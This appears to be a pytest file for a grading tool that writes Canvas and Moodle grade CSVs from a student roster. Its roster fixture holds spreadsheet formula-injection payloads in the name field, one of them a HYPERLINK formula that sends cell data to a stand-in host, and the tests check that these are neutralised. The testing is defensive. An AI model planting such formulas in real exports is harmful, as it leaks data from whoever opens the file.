"""Grades into the LMS: a roster maps submissions to students; canvas.csv and moodle.csv follow the
importers' rules (Canvas: the identifying columns and the Points Possible row; Moodle: the exact
header, e-mail as the user's key, numeric or empty grades, plain-text feedback)."""

from __future__ import annotations

import csv
import shutil

import pytest
from click.testing import CliRunner

from grader import grade_class
from grader.cli import main
from grader.grading import not_gradable
from grader.report import Report
from grader.reporters.lms import safe_cell, write_canvas, write_moodle
from grader.roster import Roster, load_roster
from grader.errors import RosterError

from .conftest import write

HEADER = "submission,name,id,sis_user_id,sis_login_id,section,email,notes\n"
ROSTER = HEADER + """\
alice.yaml,"Liddell, Alice",101,S101,alice,Mon,alice@example.com,first row
bob,"=HYPERLINK(""http://evil.example/?""&A1)",102,S102,bob,Mon,bob@example.com,
,Carol (dropped out),103,S103,carol,Tue,carol@example.com,
dan,@SUM(1+1),104,S104,dan,Tue,dan@example.com,
"""


@pytest.fixture(scope="module")
def graded(tmp_path_factory, root):
    """A small class (answers files only: no kernel), graded with a roster, a late policy and both LMS formats."""
    tmp = tmp_path_factory.mktemp("lms")
    klass = tmp / "class"
    klass.mkdir()
    examples = root / "submissions" / "conv1d"
    shutil.copy(examples / "all_right_files" / "answers.yaml", klass / "alice.yaml")
    shutil.copy(examples / "rounded.yaml", klass / "bob.yaml")
    shutil.copy(examples / "malformed_value.yaml", klass / "dan.yaml")
    shutil.copy(examples / "rounded.yaml", klass / "stray.yaml")
    roster = write(tmp / "roster.csv", ROSTER)
    policy = write(tmp / "policy.yaml", "deadline: 2026-03-01T23:59:00+01:00\npercent_per_hour: 10\nmax_percent: 50\n")
    stamps = write(tmp / "submitted.yaml", "bob: 2026-03-02T00:59:00+01:00\n")  # one hour late: 10 % of the maximum
    out = tmp / "out"
    result = CliRunner().invoke(main, [
        "grade", str(root / "rubrics/conv1d.yaml"), str(klass), "--class-folder", "--out", str(out), "--roster", str(roster),
        "--late-policy", str(policy), "--timestamps", str(stamps),
        "--format", "canvas", "--format", "moodle", "--format", "overview", "--format", "gradebook"])
    assert result.exit_code == 0, result.output + result.stderr
    return out, result


def rows(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_canvas_csv_has_the_identifying_columns_and_points_possible(graded, conv1d):
    out, _ = graded
    table = rows(out / "canvas.csv")
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Convolution by hand (1-D) (conv1d)"]
    assert table[1] == ["Points Possible", "", "", "", "", f"{conv1d.rubric.max_points:g}"]
    students = table[2:]
    assert [r[1] for r in students] == ["101", "102", "103", "104"]  # one row per roster student, in its order
    assert all(any(r[:3]) for r in students)  # Canvas needs Student, ID or SIS User ID on every row
    grades = {r[1]: r[5] for r in students}
    assert grades["101"] == "10"  # alice: the pen-and-paper answers, all right
    maximum = conv1d.rubric.max_points
    assert float(grades["102"]) == pytest.approx(10 - 0.1 * maximum)  # bob: the final score, after the late penalty
    assert grades["103"] == ""  # carol handed nothing in: no grade, never a zero
    assert grades["104"] == "8"


def test_moodle_csv_has_the_exact_header_and_plain_feedback(graded, conv1d):
    out, _ = graded
    table = rows(out / "moodle.csv")
    assert table[0] == ["Full name", "Email address", "Convolution by hand (1-D)", "Feedback"]
    body = table[1:]
    assert [r[1] for r in body] == ["alice@example.com", "bob@example.com", "carol@example.com", "dan@example.com"]
    for _name, _email, grade, feedback in body:
        assert grade == "" or float(grade) >= 0  # Moodle: a number, or empty for no grade
        assert "http" not in feedback and "<" not in feedback and "](" not in feedback
    alice, bob, carol = body[0], body[1], body[2]
    assert alice[3].startswith("Convolution by hand (1-D): 10 / ") and "Forward pass: 1 / 1" in alice[3]
    assert "Late penalty: -" in bob[3] and "before it: 10" in bob[3]
    assert carol[2] == "" and carol[3] == "No submission was found."


def test_student_text_never_becomes_a_formula(graded):
    out, _ = graded
    canvas, moodle = rows(out / "canvas.csv"), rows(out / "moodle.csv")
    assert canvas[3][0] == '\'=HYPERLINK("http://evil.example/?"&A1)' and moodle[2][0] == canvas[3][0]
    assert canvas[5][0] == "'@SUM(1+1)"
    for table in (canvas, moodle):
        assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@")]
    assert [safe_cell(t) for t in ("+1", "-x", "\tcmd", "plain", "O'Brien")] == ["'+1", "'-x", "'\tcmd", "plain", "O'Brien"]


def test_submissions_without_a_roster_entry_are_listed_on_stderr_and_in_the_overview(graded):
    out, result = graded
    assert "not on the roster (1, no LMS grade): stray" in result.stderr
    page = (out / "overview.html").read_text()
    assert 'id="off-roster"' in page and "<code>stray</code>" in page
    assert "Carol (dropped out)" in page  # roster students without a submission are listed too
    assert "stray" not in (out / "canvas.csv").read_text()


def test_a_submission_that_could_not_be_graded_gets_an_empty_grade(tmp_path, conv1d):
    roster = Roster("r.csv", load_roster(write(tmp_path / "r.csv", HEADER + "alice,Alice,1,,,,a@x.org,\n")).students)
    broken = not_gradable("alice", tmp_path / "alice", conv1d, "no kernel")
    canvas = rows(write_canvas([broken], conv1d.rubric, tmp_path / "canvas.csv", roster=roster))
    moodle = rows(write_moodle([broken], conv1d.rubric, tmp_path / "moodle.csv", roster=roster))
    assert canvas[2][5] == "" and moodle[1][2] == "" and "could not be graded" in moodle[1][3]


@pytest.mark.parametrize("text, expected", [
    ("submission,name,id\nalice,Alice,1\n", "roster.csv:1: the header lacks the columns sis_user_id, sis_login_id, section, email"),
    (HEADER + "alice,Alice,1,,,,a@x.org,\nalice-2,Alice,1,,,,a@x.org,\n",
     "roster.csv:3: submission: Alice is on line 2 too, with another submission: 'alice' and 'alice-2'"),
    (HEADER + "alice,Alice,1,,,,,\nalice,Bob,2,,,,,\n", "roster.csv:3: submission: 'alice' is also Alice's (line 2)"),
    (HEADER + "alice,,,,,Mon,,\n", "roster.csv:2: name: the row names no student"),
])
def test_roster_errors_name_the_file_line_and_field_and_stop_before_grading(tmp_path, root, text, expected):
    roster = write(tmp_path / "roster.csv", text)
    with pytest.raises(RosterError) as info:
        load_roster(roster)
    assert expected in str(info.value)
    result = CliRunner().invoke(main, ["grade", str(root / "rubrics/conv1d.yaml"), str(root / "submissions/conv1d/rounded.yaml"),
                                       "--out", str(tmp_path / "out"), "--roster", str(roster), "--format", "canvas"])
    assert result.exit_code == 2 and expected in result.output
    assert not (tmp_path / "out").exists()  # nothing graded, nothing written


def test_lms_formats_need_a_roster_that_identifies_every_student(tmp_path, root):
    rubric, submission = str(root / "rubrics/conv1d.yaml"), str(root / "submissions/conv1d/rounded.yaml")
    result = CliRunner().invoke(main, ["grade", rubric, submission, "--out", str(tmp_path / "a"), "--format", "moodle"])
    assert result.exit_code == 2 and "--format moodle needs a roster" in result.output
    no_email = write(tmp_path / "roster.csv", HEADER + "rounded,Rita,7,,,,,\n")
    result = CliRunner().invoke(main, ["grade", rubric, submission, "--out", str(tmp_path / "b"), "--roster", str(no_email),
                                       "--format", "moodle"])
    assert result.exit_code == 2 and "roster.csv:2: email: Rita has no email, which Moodle needs" in result.output
    assert not (tmp_path / "b").exists()


def test_the_api_takes_the_roster_too(tmp_path, root, conv1d):
    roster = load_roster(write(tmp_path / "roster.csv", HEADER + "rounded.yaml,Rita,7,S7,rita,Mon,rita@x.org,\n"))
    result = grade_class([root / "submissions/conv1d/rounded.yaml", root / "submissions/conv1d/malformed_value.yaml"], conv1d,
                         out=tmp_path / "out", roster=roster, formats=("canvas",))
    assert [r.submission for r in result.off_roster()] == ["malformed_value"]
    assert rows(tmp_path / "out" / "canvas.csv")[2] == ["Rita", "7", "S7", "rita", "Mon", "10"]
    assert isinstance(result.reports[0], Report)
